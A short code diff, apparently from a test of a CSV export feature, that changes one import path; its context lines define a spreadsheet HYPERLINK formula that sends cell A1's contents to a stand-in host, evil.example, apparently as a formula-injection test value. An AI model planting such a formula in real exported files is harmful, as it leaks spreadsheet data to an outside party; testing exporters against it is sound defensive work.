@@ -7,7 +7,7 @@ const { request } = await import('./calls')
 const { exportRows, toCsv } = await import('./csv-export')
 const { EMPTY_LIST_STATE } = await import('./url-state')
 const { adminTranslator, loadAdminDictionary } = await import('../i18n')
-const { customers } = await import('../resources/customers')
+const { customers } = await import('../resources/customers/customers')
 
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 
